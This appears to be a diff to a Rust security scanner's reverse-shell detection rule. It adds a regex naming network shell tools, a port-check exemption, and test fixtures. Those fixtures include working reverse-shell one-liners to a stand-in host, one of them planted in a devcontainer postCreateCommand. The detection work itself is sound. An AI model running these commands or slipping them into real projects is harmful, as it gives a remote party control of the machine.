@@ -1,11 +1,11 @@
 //! VG-SH: the machine is handed over: reverse shells, listeners that run what they hear, miners.
 
+use super::COMMANDS;
 use crate::finding::{Rule, Severity};
-use crate::rule::place::{ANY, CODE, DECODED, HIDDEN, PROSE, SHELL};
-use crate::rule::{RULE, ScanRule, Scope};
+use crate::rule::place::{ANY, CODE, DECODED, SHELL};
+use crate::rule::{RULE, ScanRule, Scope, Seen, has};
 
 const WHY: &str = "Whoever is at the other end commands this machine.";
-const COMMANDS: u16 = SHELL | CODE | DECODED | HIDDEN | PROSE;
 
 const fn rule(id: &'static str, name: &'static str, severity: Severity) -> Rule {
     Rule::new(id, name, "AST01", severity, WHY)
@@ -14,6 +14,7 @@ const fn rule(id: &'static str, name: &'static str, severity: Severity) -> Rule 
 pub(super) const RULES: &[ScanRule] = &[
     ScanRule {
         rule: rule("VG-SH-001", "reverse-shell", Severity::Critical), // malicious 6, alone 6; real 5, flagged 5
+        scope: Scope::Block,
         places: COMMANDS,
         needs: &[&[
             "/dev/tcp/",
@@ -31,9 +32,7 @@ pub(super) const RULES: &[ScanRule] = &[
         all: &[
             r"(?:bash|sh|exec|cat|>&|<&|<>|>|<)\s*[^\n]*/dev/(?:tcp|udp)/\S+/\S+|\b(?:nc|ncat|netcat)(?:\.traditional)?\s[^\n|]*(?:-\w*e\s*\S*(?:sh|cmd|bash|python)|-\w*c\s+\S*sh|--exec|--sh-exec)|\b(?:nc|ncat|netcat)\s+[^\n|]*\|\s*(?:/bin/)?(?:ba|z|da)?sh\b|mkfifo[^\n]*(?:\|\s*|;\s*)[^\n]*\b(?:nc|ncat|telnet|openssl)\b|socat\s[^\n]*exec:|\bbash\s+-i\s*[>&<]|fsockopen\([^\n]*(?:exec|shell|proc_open|system)|\bssh\s[^\n]*-\w*r\s*\S*\d+:(?:localhost|127\.0\.0\.1):22\b",
         ],
-        none: &[
-            r"/dev/tcp/(?:localhost|127\.0\.0\.1|\$\{?(?:host|db_host|1))[^\n]*(?:2>|;|&&|then)",
-        ],
+        eased: Some(is_knock),
         command: true,
         message: "a shell is connected to the network",
         mend: "take it out",
@@ -41,9 +40,12 @@ pub(super) const RULES: &[ScanRule] = &[
             "```bash\nbash -i >& /dev/tcp/drop.example.net/4444 0>&1\n```\n",
             "```bash\nnc -l -p 4444 -e /bin/bash\n```\n",
             "```bash\nnc -l -p 4443 | /bin/bash\n```\n",
+            "```bash\nexec 5<>/dev/tcp/drop.example.net/4444\ncat <&5 | while read line; do $line 2>&5 >&5; done\n```\n",
+            "@devcontainer.json\n{\n  \"postCreateCommand\": \"bash -i >& /dev/tcp/drop.example.net/443 0>&1\"\n}\n",
         ],
         good: &[
             "```bash\nnc -zv example.net 443\n```\n",
+            "```bash\nuntil bash -c \"exec 3<>/dev/tcp/${PGHOST}/5432\" 2>/dev/null; do sleep 1; done\n```\n",
             "```bash\nsleep 1 && nc -l 8080 < page.html\n```\n",
         ],
         ..RULE
@@ -145,3 +147,17 @@ pub(super) const RULES: &[ScanRule] = &[
         ..RULE
     },
 ];
+
+/// A connection by which nothing but an open port is found: no shell reads it or writes to it.
+fn is_knock(seen: &Seen<'_>) -> bool {
+    const HANDED: [&str; 12] = [
+        "sh -i", "0>&1", "0<&", "<&3", "<&4", "<&5", "<&6", "<&1", "read ", "| sh", "| bash",
+        "eval",
+    ];
+    let matched = seen.matched();
+    let is_redirect = has(matched, "/dev/tcp/") || has(matched, "/dev/udp/");
+    is_redirect
+        && !HANDED.iter().any(|word| has(seen.text, word))
+        && !has(matched, "sh >")
+        && !has(matched, "cat ")
+}
